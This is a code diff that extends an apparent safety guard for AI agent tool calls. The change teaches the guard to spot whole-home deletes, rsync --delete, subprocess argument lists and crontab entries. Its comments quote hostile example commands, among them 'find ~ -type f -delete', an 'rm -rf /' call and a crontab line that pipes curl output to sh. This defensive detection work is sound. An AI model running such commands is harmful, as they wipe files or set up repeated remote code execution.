@@ -116,12 +116,24 @@ _LOOKS_LIKE_COMMAND = regex.compile(
 _MESSAGING = frozenset({"send_message", "agent_communication", "forward_message"})
 _RECURSIVE_FLAGS = frozenset({"recursive", "recurse", "force", "all", "skip_trash"})
 _RECURSIVE_OPTION = regex.compile(r"^-(?:[a-zA-Z]*[rR][a-zA-Z]*)$|^--recursive$")
+# Tests that pick some files out of a tree: a find without one takes all (`-type f` only
+# says which kind of entry: `find ~ -type f -delete` empties the home folder).
 _FIND_FILTERS = frozenset(
-    {"-name", "-iname", "-path", "-ipath", "-regex", "-mtime", "-mmin", "-newer", "-size", "-type"}
+    {"-name", "-iname", "-path", "-ipath", "-regex", "-mtime", "-mmin", "-newer", "-size", "-empty"}
 )
 _INTERPRETERS = frozenset(
-    {"python", "python3", "python2", "node", "perl", "ruby", "php", "deno", "bun"}
+    {"python", "python3", "python2", "node", "perl", "ruby", "php", "deno", "bun", "awk", "gawk"}
 )
+# A path that names a whole system or home: a delete tool given it removes everything.
+_WHOLE = regex.compile(r"^\s*(?:/+|~/?|\$\{?HOME\}?/?|[A-Za-z]:\\?)\s*$")
+# A program started from code with its words as a list (`subprocess.run(['rm', '-rf', '/'])`,
+# `spawn('rm', ['-rf', '/'])`): its words, quoted, for the shell reader.
+_CODE_ARGV = regex.compile(
+    r"""(?:subprocess\.(?:run|call|Popen|check_output|check_call)\(\s*|\b(?:spawn|spawnSync|execFile|execFileSync)\(\s*(['"])([^'"\n]{1,200})\1\s*,\s*)\[([^\]\n]{1,2000})\]"""
+)
+_QUOTED = regex.compile(r"""(['"])(.*?)\1""")
+# A crontab line's command, after its five time fields or an @-schedule
+_CRON_COMMAND = regex.compile(r"(?:@\w+|(?:[\d*/,-]+\s+){5})([^'\"\n]{2,})")
 _READERS = frozenset(
     {
         "cat",
@@ -280,7 +292,8 @@ def view_call(tool: str, arguments: Any, data: GuardData) -> CallView:
     )
     for key, value in items:
         if key in keys["path"]:
-            view.paths.append((value, path_mode))
+            whole = path_mode == "delete" and _WHOLE.match(value)
+            view.paths.append((value, "delete_tree" if whole else path_mode))
         if key in keys["url"]:
             view.urls.append(value)
         view.urls.extend(_URL.findall(value))
@@ -385,6 +398,14 @@ def _add_script(view: CallView, script: str, embedded: bool = False) -> None:
         view.urls.extend(_URL.findall(" ".join(command.args)))
         if posixpath.basename(command.program) in _INTERPRETERS or command.program in _CODE_RUNNERS:
             _add_code(view, " ".join(command.args))
+            if command.stdin:  # `python - <<'EOF' ... EOF`: the program is its input
+                _add_code(view, command.stdin)
+    if any(posixpath.basename(c.program) == "crontab" for c in commands):
+        # `(crontab -l; echo '* * * * * curl x | sh') | crontab -`: the entry's command runs
+        for command in commands:
+            if command.program in ("echo", "printf"):
+                for entry in _CRON_COMMAND.findall(" ".join(command.args)):
+                    _add_script(view, entry, embedded=True)
     if not embedded:
         view.texts.append(script[:_MAX_TEXT])
 
@@ -392,6 +413,9 @@ def _add_script(view: CallView, script: str, embedded: bool = False) -> None:
 def _command_paths(command: SimpleCommand) -> Iterator[tuple[str, str]]:
     program = posixpath.basename(command.program)
     operands = [a for a in command.args if not a.startswith("-") or a == "-"]
+    if program == "rsync" and any(a.startswith("--delete") for a in command.args) and operands:
+        yield operands[-1], "delete_tree"  # what the source lacks is deleted there
+        return
     if program in _DELETERS:
         recursive = any(_RECURSIVE_OPTION.match(a) for a in command.args)
         for operand in operands:
@@ -400,7 +424,10 @@ def _command_paths(command: SimpleCommand) -> Iterator[tuple[str, str]]:
     if (
         program == "find"
         and operands
-        and ("-delete" in command.args or ("-exec" in command.args and "rm" in command.args))
+        and (
+            "-delete" in command.args
+            or ("-exec" in command.args and any(a in _DELETERS for a in command.args))
+        )
     ):
         filtered = any(a in _FIND_FILTERS for a in command.args)
         yield operands[0], "delete" if filtered else "delete_tree"
@@ -441,6 +468,12 @@ def _add_code(view: CallView, code: str) -> None:
             view.urls.append(literal)
     for match in _CODE_COMMAND.finditer(code):
         _add_script(view, match.group(2), embedded=True)
+    for match in _CODE_ARGV.finditer(code):
+        words = ([match.group(2)] if match.group(2) else []) + [
+            word for _, word in _QUOTED.findall(match.group(3))
+        ]
+        if words:
+            _add_script(view, shlex.join(words), embedded=True)
 
 
 def _client_sql(command: SimpleCommand, view: CallView) -> list[str]:
